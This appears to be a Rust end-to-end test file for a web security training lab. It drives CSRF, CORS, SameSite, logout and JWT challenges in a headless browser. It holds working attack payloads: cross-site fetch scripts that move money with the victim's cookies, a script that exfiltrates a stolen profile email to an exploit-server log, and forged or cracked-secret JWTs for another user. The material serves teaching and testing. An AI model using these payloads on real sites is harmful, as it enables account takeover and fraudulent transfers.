//! The attacker, defender-of-the-bank and token challenges (5, 7-14) played through the page
//! as a person plays them: start one in the Challenges panel (which resets the lab into its
//! setup), log in as the victim in the auth lab, write an attack page in the exploit server,
//! store it and open it as the victim from the link the page offers, switch the defenses and
//! the token tools; then see the server's judge say solved. Each test first plays the nearest
//! wrong answer and sees the challenge stay open.
//!
//! Headless Chromium blocks third-party cookies: a request from the cross-site attacker
//! (`http://127.0.0.1:<site port>`) carries no session cookie whatever its `SameSite`. Where the
//! cookie must go, the attack is opened from the same-site attacker (`http://localhost:<site
//! port>`), as the challenges' hints and the third-party note say.
//!
//! Chromium only (`cargo xtask test`): the judge reads the server's log, the same whatever sent
//! the requests; `challenges_by_engine.rs` has those whose lesson differs by engine.


use e2e::{Lab, settle};
use fantoccini::{Locator, wd::WindowHandle};
use shared::{
    challenge::{ChallengeId, Solved},
    wire::LogEntry,
};

/// Starts the challenge `id` from its Start button and waits until the panel shows it running.
pub(crate) async fn start(lab: &Lab, id: ChallengeId) {
    let key = id.as_str();
    let b = &lab.browser;
    let started_before = lab.control_get("/control/challenge").await["run"]["started_at"].clone();
    b.click(&format!("#challenge-start-{key}")).await;
    lab.control_wait("/control/challenge", |state| state["run"]["id"] == key && state["run"]["started_at"] != started_before).await;
    b.wait_attr(&format!("li[data-challenge='{key}']"), "data-state", |s| s == "running").await;
    b.wait_attr("#challenge-running", "data-challenge", |k| k == key).await;
    // The start reset the lab: the page drops the old lab's results (and token) as it hears so.
    b.wait_text("#results", |t| t.contains("Send a request")).await;
}

/// Waits for the solved banner with `id`'s lesson and the proof it lists, and hands back what
/// the server's judge said proved it.
pub(crate) async fn solved(lab: &Lab, id: ChallengeId) -> Solved {
    let b = &lab.browser;
    b.wait_text("#challenge-solved", |t| t.contains(id.challenge().lesson)).await;
    b.wait_attr(&format!("li[data-challenge='{}']", id.as_str()), "data-state", |s| s == "solved").await;
    let run = lab.control_get("/control/challenge").await;
    let solved: Solved = serde_json::from_value(run["run"]["solved"].clone()).unwrap_or_else(|e| panic!("a solved run says what proved it ({e}): {run}"));
    for seq in &solved.entries {
        b.wait_text(&format!("#challenge-proof li[data-seq='{seq}']"), |t| t.starts_with(&format!("#{seq} "))).await;
    }
    for seq in &solved.hits {
        b.wait_text(&format!("#challenge-proof li[data-hit='{seq}']"), |t| !t.is_empty()).await;
    }
    solved
}

/// The wrong answer, once the judge has read all of it (`judged_through` up to the log's last
/// entry), left the run open, in the server and in the panel.
pub(crate) async fn stays_open(lab: &Lab, id: ChallengeId, wrong: &str) {
    let b = &lab.browser;
    let run = lab.judged_run().await;
    assert_eq!(run["run"]["id"], id.as_str(), "{wrong}: the run is still {id:?}");
    assert!(run["run"]["solved"].is_null(), "{wrong} solves nothing: {run}");
    assert_eq!(b.attr(&format!("li[data-challenge='{}']", id.as_str()), "data-state").await.as_deref(), Some("running"), "{wrong}");
    assert_eq!(b.text("#challenge-solved").await, "", "{wrong}");
}

/// Clicks `css`, which sends one lab request, and hands back the status line of its answer as
/// the results show it (`200 OK`, `401 Unauthorized`, …).
pub(crate) async fn send(lab: &Lab, css: &str) -> String {
    let b = &lab.browser;
    b.send_lab_request(css).await;
    b.wait_text("#latest .browser-view .headline", |t| !t.is_empty()).await
}

/// The last `seq` of the server's log (0 when empty).
pub(crate) async fn last_seq(lab: &Lab) -> u64 {
    lab.server_log().await.last().map_or(0, |e| e.seq)
}

/// Waits for the server's log to hold an entry after `after` that `which` picks, and hands it
/// back.
pub(crate) async fn logged(lab: &Lab, after: u64, what: &str, which: impl Fn(&LogEntry) -> bool) -> LogEntry {
    let pick = |log: &Vec<LogEntry>| log.iter().find(|e| e.seq > after && which(e)).cloned();
    let log = settle(async || lab.server_log().await, |log| pick(log).is_some()).await;
    pick(&log).unwrap_or_else(|| panic!("the server never logged {what} after #{after}"))
}

/// Writes `html` in the exploit server's editor and stores it, as the page says once done.
pub(crate) async fn store_exploit(lab: &Lab, html: &str) {
    let b = &lab.browser;
    b.fill("#exploit-html", html).await;
    b.click("#exploit-store").await;
    lab.control_wait("/control/exploit", |e| e["html"] == html).await;
    b.wait_text("#exploit-stored", |t| t.starts_with(&format!("Stored ({} bytes)", html.len()))).await;
}

/// Opens the link `css` of the playground (an attack page of the other site) in a new window
/// of the same browser, as the victim would; hands back the playground's window.
pub(crate) async fn open_as_victim(lab: &Lab, css: &str) -> WindowHandle {
    let href = lab.browser.attr(css, "href").await.unwrap_or_else(|| panic!("no link {css}"));
    lab.browser.open_window(&href).await
}

/// The same-site attacker's origin (`localhost` on the other site's port).
pub(crate) fn same_site(lab: &Lab) -> String {
    format!("http://localhost:{}", lab.backend.site_addr.port())
}

/// The cross-site attacker's origin (`127.0.0.1` on the other site's port).
pub(crate) fn cross_site(lab: &Lab) -> String {
    format!("http://127.0.0.1:{}", lab.backend.site_addr.port())
}

/// The playground's story of the transfer logged as `seq`, in "Transfers from other origins".
pub(crate) async fn attack_story(lab: &Lab, seq: u64) -> String {
    let b = &lab.browser;
    let prefix = format!("#{seq} ");
    let find = async || {
        let items = b.client.find_all(Locator::Css("#attacks li.attack")).await.unwrap_or_default();
        for item in items {
            let text = item.text().await.unwrap_or_default();
            if text.starts_with(&prefix) {
                return text;
            }
        }
        String::new()
    };
    let story = settle(find, |t: &String| !t.is_empty()).await;
    assert!(!story.is_empty(), "the playground never told the transfer #{seq}");
    story
}

/// An exploit page that POSTs the seed's transfer with the victim's cookies (a simple request:
/// a text/plain body, no preflight), then reports to the access log that it was sent.
pub(crate) fn transfer_exploit(lab: &Lab) -> String {
    format!(
        r#"<script>fetch("{}/api/transfer", {{method: "POST", credentials: "include", body: JSON.stringify({{to: "bob@example.com", amount: 100}})}}).catch(() => null).then(() => fetch("/log?sent=transfer"));</script>"#,
        lab.backend.api
    )
}

/// Opens the exploit as the victim from `link`, and waits for its transfer from `origin` in the
/// server's log and the playground's story of it.
pub(crate) async fn run_transfer_exploit(lab: &Lab, link: &str, origin: &str) -> (LogEntry, String) {
    let after = last_seq(lab).await;
    let playground = open_as_victim(lab, link).await;
    lab.browser.switch_to(playground).await;
    let entry = logged(lab, after, &format!("the exploit's transfer from {origin}"), |e| {
        e.path == "/api/transfer" && !e.preflight && e.origin.as_deref() == Some(origin)
    })
    .await;
    let story = attack_story(lab, entry.seq).await;
    (entry, story)
}

/// Opens the other site's ready-made attack page from `link` (it POSTs the transfer as it
/// loads), waits until it says what it could read, and hands back its log entry and the
/// playground's story of it.
pub(crate) async fn run_attack_page(lab: &Lab, link: &str) -> (LogEntry, String) {
    let b = &lab.browser;
    let playground = open_as_victim(lab, link).await;
    b.wait_attr("#outcome", "data-state", |s| s == "read" || s == "blocked").await;
    let rid = b.attr("#outcome", "data-rid").await.expect("the attack page names its request");
    b.switch_to(playground).await;
    let entry = logged(lab, 0, &format!("the attack {rid}"), |e| e.rid.as_deref() == Some(rid.as_str()) && !e.preflight).await;
    let story = attack_story(lab, entry.seq).await;
    (entry, story)
}

/// The playground's own transfer (with the CSRF token when the defense is on); hands back what
/// the page said of it.
pub(crate) async fn own_transfer(lab: &Lab) -> String {
    let b = &lab.browser;
    let before = b.text("#own-transfer-result").await;
    b.click("#own-transfer-send").await;
    b.wait_text("#own-transfer-result", |t| t != before && t.contains("POST /api/transfer")).await
}

/// Logs in as the victim (a@b.com) with the session cookie.
pub(crate) async fn victim_logs_in(lab: &Lab) {
    assert_eq!(send(lab, "#login-cookie").await, "200 OK", "the victim's login");
}

#[tokio::test]
async fn reflected_origin_is_solved_by_an_exploit_page_that_reads_the_profile_not_by_the_playground_reading_it() {
    let lab = Lab::opened().await;
    let b = &lab.browser;
    let id = ChallengeId::ReflectedOrigin;
    start(&lab, id).await;
    victim_logs_in(&lab).await;

    // The nearest wrong answer: the playground itself reads the profile (the policy lets it),
    // and a page on the other site reports the email, typed in rather than read.
    assert_eq!(send(&lab, "#profile-cookie").await, "200 OK");
    let own_read = logged(&lab, 0, "the playground's profile read", |e| e.path == "/api/profile" && !e.preflight).await;
    store_exploit(&lab, r#"<script>fetch("/log?email=" + encodeURIComponent("a@b.com"));</script>"#).await;
    let playground = open_as_victim(&lab, "#exploit-open-same-site").await;
    b.switch_to(playground).await;
    let typed = b.wait_text("#exploit-log li", |t| t.contains("/log?email=a%40b.com")).await;
    stays_open(&lab, id, &format!("the playground's own read #{} and an email typed in ({typed})", own_read.seq)).await;

    // The attack: a page on the other site reads the profile with the victim's cookie (same
    // site: Lax lets it go) and reports what it read.
    let exploit = format!(
        r#"<script>fetch("{}/api/profile", {{credentials: "include"}}).then(r => r.json()).then(p => fetch("/log?stolen=" + encodeURIComponent(p.user.email)));</script>"#,
        lab.backend.api
    );
    store_exploit(&lab, &exploit).await;
    let playground = open_as_victim(&lab, "#exploit-open-same-site").await;
    b.switch_to(playground).await;
    let report = b.wait_text("#exploit-log li", |t| t.contains("/log?stolen=a%40b.com")).await;
    assert!(report.contains(&format!("Referer: {}/exploit", same_site(&lab))), "reported by the exploit page: {report}");

    let proof = solved(&lab, id).await;
    let log = lab.server_log().await;
    let read = log.iter().find(|e| proof.entries == [e.seq]).expect("the proof names the read");
    assert_eq!(read.origin.as_deref(), Some(same_site(&lab).as_str()), "the exploit's read proves it, not the playground's");
    assert!(read.seq > own_read.seq);
    let hits = lab.control_get("/control/exploit/log").await;
    let reported = hits.as_array().and_then(|h| h.iter().find(|h| proof.hits == [h["seq"].as_u64().unwrap_or_default()])).cloned();
    assert!(reported.is_some_and(|h| h["target"].as_str().is_some_and(|t| t.starts_with("/log?stolen="))), "the read email's report proves it: {proof:?} {hits}");
    lab.browser.close().await;
}

#[tokio::test]
async fn move_the_money_is_solved_by_a_page_of_another_origin_not_by_the_playgrounds_own_transfer() {
    let lab = Lab::opened().await;
    let id = ChallengeId::MoveTheMoney;
    start(&lab, id).await;
    victim_logs_in(&lab).await;

    // The nearest wrong answer: the playground's own transfer moves the money, with the cookie.
    let said = own_transfer(&lab).await;
    assert!(said.contains("POST /api/transfer → 200 OK"), "{said}");
    let own = logged(&lab, 0, "the playground's transfer", |e| e.path == "/api/transfer" && !e.preflight).await;
    stays_open(&lab, id, &format!("the playground's own transfer #{}", own.seq)).await;

    // The attack, from the same-site attacker: headless Chromium keeps the cookie from the
    // cross-site one (third-party cookies blocked), whatever SameSite=None says.
    store_exploit(&lab, &transfer_exploit(&lab)).await;
    let (attack, story) = run_transfer_exploit(&lab, "#exploit-open-same-site", &same_site(&lab)).await;
    assert!(story.contains("The transfer RAN"), "{story}");

    let proof = solved(&lab, id).await;
    assert_eq!(proof.entries, [attack.seq], "the attack proves it, not the playground's transfer #{}", own.seq);
    lab.browser.wait_text("#accounts .account[data-email='a@b.com'] .balance", |t| t == "890").await;
    lab.browser.close().await;
}

#[tokio::test]
async fn same_site_is_not_same_origin_the_cross_site_attack_fails_and_the_same_site_one_moves_the_money() {
    let lab = Lab::opened().await;
    let id = ChallengeId::SameSiteIsNotSameOrigin;
    start(&lab, id).await;
    victim_logs_in(&lab).await;
    store_exploit(&lab, &transfer_exploit(&lab)).await;

    // The nearest wrong answer: the cross-site attacker, whose request SameSite=Lax sends
    // without the cookie.
    let (refused, story) = run_transfer_exploit(&lab, "#exploit-open-cross-site", &cross_site(&lab)).await;
    assert!(!refused.credentials.has_session() && refused.status == 401, "{story}");
    assert!(story.contains("Nothing happened") && story.contains("SameSite=Lax kept it home"), "{story}");
    stays_open(&lab, id, &format!("the cross-site attack #{}", refused.seq)).await;

    // The same exploit from the same site (localhost on the other port): the cookie goes.
    let (attack, story) = run_transfer_exploit(&lab, "#exploit-open-same-site", &same_site(&lab)).await;
    assert!(story.contains("The transfer RAN"), "{story}");

    let proof = solved(&lab, id).await;
    assert_eq!(proof.entries, [attack.seq]);
    lab.browser.close().await;
}

#[tokio::test]
async fn defend_the_bank_is_solved_once_a_defense_refuses_both_attackers_and_the_playground_still_transfers() {
    let lab = Lab::opened().await;
    let b = &lab.browser;
    let id = ChallengeId::DefendTheBank;
    start(&lab, id).await;
    victim_logs_in(&lab).await;

    // The nearest wrong answer: no defense. SameSite=Lax keeps the cookie from the cross-site
    // attacker, but the same-site one moves the money; the playground's transfer runs.
    let (same, story) = run_attack_page(&lab, "#attack-same-site").await;
    assert!(story.contains("The transfer RAN"), "#{}: {story}", same.seq);
    let (cross, story) = run_attack_page(&lab, "#attack-cross-site").await;
    assert!(story.contains("Nothing happened"), "#{}: {story}", cross.seq);
    assert!(own_transfer(&lab).await.contains("POST /api/transfer → 200 OK"));
    stays_open(&lab, id, "no defense (the same-site attack ran)").await;

    // The Origin check, switched on in the page; then both attacks and one transfer again.
    b.set_checked("#defense-origin", true).await;
    lab.control_wait("/control/defenses", |d| d["origin_check"] == true).await;
    let (same, story) = run_attack_page(&lab, "#attack-same-site").await;
    assert!(story.contains("the Origin check refused"), "{story}");
    let (cross, story) = run_attack_page(&lab, "#attack-cross-site").await;
    assert!(story.contains("the Origin check refused"), "{story}");
    assert!(own_transfer(&lab).await.contains("POST /api/transfer → 200 OK"));
    let own = logged(&lab, cross.seq, "the playground's transfer", |e| e.path == "/api/transfer" && !e.preflight).await;

    let proof = solved(&lab, id).await;
    assert_eq!(proof.entries, [same.seq, cross.seq, own.seq], "only what came under the defense proves it");
    lab.browser.close().await;
}

#[tokio::test]
async fn lax_is_not_enough_a_cross_site_top_level_navigation_moves_the_money_a_same_site_one_does_not_count() {
    let lab = Lab::opened().await;
    let b = &lab.browser;
    let id = ChallengeId::LaxIsNotEnough;
    start(&lab, id).await;
    assert_eq!(b.client.find(Locator::Css("#vulnerable-transfer-via-get")).await.expect("the setting's toggle").prop("checked").await.ok().flatten().as_deref(), Some("true"), "the setup switches the vulnerable GET transfer on");
    victim_logs_in(&lab).await;
    let exploit = format!(r#"<script>location = "{}/api/transfer?to=bob@example.com&amount=100";</script>"#, lab.backend.api);
    store_exploit(&lab, &exploit).await;
    let navigation = |site: &'static str| move |e: &LogEntry| e.path == "/api/transfer" && e.method == "GET" && e.request_headers.get("sec-fetch-site").map(String::as_str) == Some(site);

    // The nearest wrong answer: the same navigation from the same site moves the money, but
    // SameSite=Lax never stopped a same-site request.
    let after = last_seq(&lab).await;
    let playground = open_as_victim(&lab, "#exploit-open-same-site").await;
    b.switch_to(playground).await;
    let same = logged(&lab, after, "the same-site navigation", navigation("same-site")).await;
    let story = attack_story(&lab, same.seq).await;
    assert!(story.contains("The transfer RAN") && story.contains("top-level navigation"), "{story}");
    stays_open(&lab, id, &format!("the same-site navigation #{}", same.seq)).await;

    // From another site: a top-level GET navigation, on which Lax lets the cookie go.
    let after = last_seq(&lab).await;
    let playground = open_as_victim(&lab, "#exploit-open-cross-site").await;
    b.switch_to(playground).await;
    let cross = logged(&lab, after, "the cross-site navigation", navigation("cross-site")).await;
    let story = attack_story(&lab, cross.seq).await;
    assert!(story.contains("The transfer RAN") && story.contains("Sec-Fetch-Site: cross-site"), "{story}");

    let proof = solved(&lab, id).await;
    assert_eq!(proof.entries, [cross.seq]);
    b.wait_text("#accounts .account[data-email='a@b.com'] .balance", |t| t == "800").await;
    lab.browser.close().await;
}

#[tokio::test]
async fn the_token_that_stops_it_is_solved_with_the_csrf_token_defense_not_with_the_origin_check() {
    let lab = Lab::opened().await;
    let b = &lab.browser;
    let id = ChallengeId::TheTokenThatStopsIt;
    start(&lab, id).await;
    victim_logs_in(&lab).await;

    // The nearest wrong answer: the Origin check instead also refuses both attackers while the
    // playground's transfer runs, but it is not the token.
    b.set_checked("#defense-origin", true).await;
    lab.control_wait("/control/defenses", |d| d["origin_check"] == true).await;
    let (same, story) = run_attack_page(&lab, "#attack-same-site").await;
    assert!(same.credentials.has_session() && story.contains("the Origin check refused"), "{story}");
    let (_, story) = run_attack_page(&lab, "#attack-cross-site").await;
    assert!(story.contains("Nothing happened"), "{story}");
    assert!(own_transfer(&lab).await.contains("POST /api/transfer → 200 OK"));
    stays_open(&lab, id, "the Origin check instead of the token").await;

    // The CSRF token defense instead: the playground reads its token and sends it; the
    // attackers cannot. (The same-site one carries the cookie; in headless Chromium the
    // cross-site one does not, third-party cookies being blocked.)
    // (One switch at a time: each sends the defenses as the page last heard them from the server.)
    b.set_checked("#defense-origin", false).await;
    lab.control_wait("/control/defenses", |d| d["origin_check"] == false).await;
    b.set_checked("#defense-csrf-token", true).await;
    lab.control_wait("/control/defenses", |d| d["origin_check"] == false && d["csrf_token"] == true).await;
    let said = own_transfer(&lab).await;
    assert!(said.contains("GET /api/csrf-token → 200 OK") && said.contains("POST /api/transfer with X-CSRF-Token → 200 OK"), "{said}");
    let (same, story) = run_attack_page(&lab, "#attack-same-site").await;
    assert!(same.credentials.has_session() && story.contains("the CSRF token defense refused it"), "{story}");
    let (cross, story) = run_attack_page(&lab, "#attack-cross-site").await;
    assert!(story.contains("Nothing happened"), "{story}");

    let proof = solved(&lab, id).await;
    assert_eq!(&proof.entries[..2], [same.seq, cross.seq]);
    b.wait_text("#accounts .account[data-email='a@b.com'] .balance", |t| t == "980").await;
    lab.browser.close().await;
}

#[tokio::test]
async fn logout_that_doesnt_is_solved_by_a_token_from_before_the_logout_not_by_one_fetched_after_it() {
    let lab = Lab::opened().await;
    let id = ChallengeId::LogoutThatDoesnt;
    start(&lab, id).await;

    // The nearest wrong answer: log in, log out, and only then get a token: of course it works.
    victim_logs_in(&lab).await;
    let first_logout = last_seq(&lab).await;
    assert_eq!(send(&lab, "#logout").await, "204 No Content");
    assert_eq!(send(&lab, "#get-token").await, "200 OK");
    assert!(send(&lab, "#profile-cookie").await.starts_with("401"), "the session is gone");
    assert_eq!(send(&lab, "#profile-token").await, "200 OK");
    stays_open(&lab, id, "a token fetched after the logout").await;

    // Both logins first, then the logout: the cookie is refused, the older token still works.
    victim_logs_in(&lab).await;
    assert_eq!(send(&lab, "#get-token").await, "200 OK");
    assert_eq!(send(&lab, "#logout").await, "204 No Content");
    let logout = logged(&lab, first_logout + 1, "the second logout", |e| e.path == "/api/logout").await;
    let refused = send(&lab, "#profile-cookie").await;
    assert!(refused.starts_with("401"), "{refused}");
    assert_eq!(send(&lab, "#profile-token").await, "200 OK");

    let proof = solved(&lab, id).await;
    assert!(proof.entries.contains(&logout.seq), "the second logout proves it: {proof:?}");
    lab.browser.close().await;
}

#[tokio::test]
async fn forge_the_admin_is_solved_by_an_unsigned_token_for_bob_not_by_one_for_ones_own_user() {
    let lab = Lab::opened().await;
    let b = &lab.browser;
    let id = ChallengeId::ForgeTheAdmin;
    start(&lab, id).await;
    b.wait_attr("#jwt-alg-none-state", "data-on", |on| on == "true").await;
    assert_eq!(send(&lab, "#get-token").await, "200 OK", "a@b.com's own token, to read");

    // The nearest wrong answer: an unsigned token for one's own user (sub 1) is accepted, but
    // forges nobody.
    b.fill("#jwt-unsigned-sub", "1").await;
    b.click("#jwt-write-unsigned").await;
    b.wait_text("#jwt-compact", |t| t.ends_with('.')).await;
    assert_eq!(send(&lab, "#jwt-send").await, "200 OK");
    let own = b.text("#latest .browser-view pre").await;
    assert!(own.contains("a@b.com") && own.contains("unsigned_jwt"), "{own}");
    stays_open(&lab, id, "an unsigned token for a@b.com").await;

    // bob's (sub 2), whom nobody logged in as.
    let read_own = last_seq(&lab).await;
    b.fill("#jwt-unsigned-sub", "2").await;
    b.click("#jwt-write-unsigned").await;
    assert_eq!(send(&lab, "#jwt-send").await, "200 OK");
    let bob = b.text("#latest .browser-view pre").await;
    assert!(bob.contains("bob@example.com") && bob.contains("unsigned_jwt"), "{bob}");

    let proof = solved(&lab, id).await;
    assert!(proof.entries.iter().all(|seq| *seq > read_own), "bob's read proves it: {proof:?}");
    lab.browser.close().await;
}

#[tokio::test]
async fn crack_the_secret_is_solved_by_a_token_signed_for_bob_with_the_word_found_not_by_one_the_server_issued_him() {
    let lab = Lab::opened().await;
    let b = &lab.browser;
    let id = ChallengeId::CrackTheSecret;
    start(&lab, id).await;

    // The nearest wrong answer: logging in as bob (bob@example.com / hunter2) gets a token the
    // server signed for him, which reads his profile, but cracks nothing.
    b.fill("#email", "bob@example.com").await;
    b.fill("#password", "hunter2").await;
    assert_eq!(send(&lab, "#get-token").await, "200 OK");
    assert_eq!(send(&lab, "#profile-token").await, "200 OK");
    assert!(b.text("#latest .browser-view pre").await.contains("bob@example.com"));
    stays_open(&lab, id, "a token the server issued to bob").await;

    // Since bob was let in, nothing in this run can prove a forgery: start it again (a new
    // word, a new lab), get one's own token, crack it with the word list, sign for bob.
    start(&lab, id).await;
    b.fill("#email", "a@b.com").await;
    b.fill("#password", "123").await;
    assert_eq!(send(&lab, "#get-token").await, "200 OK");
    let words = b.text("#challenge-words").await;
    b.click("#jwt-crack").await;
    let found = b.wait_attr("#jwt-crack-result", "data-found", |f| !f.is_empty()).await;
    assert!(words.split(", ").any(|w| w == found), "{found} is a word the panel offered: {words}");
    assert_eq!(b.value("#jwt-secret").await, found);
    b.fill("#jwt-sub", "2").await;
    b.click("#jwt-sign-as").await;
    assert_eq!(send(&lab, "#jwt-send").await, "200 OK");
    let bob = b.text("#latest .browser-view pre").await;
    assert!(bob.contains("bob@example.com") && bob.contains("\"auth\":\"jwt\""), "{bob}");

    solved(&lab, id).await;
    lab.browser.close().await;
}
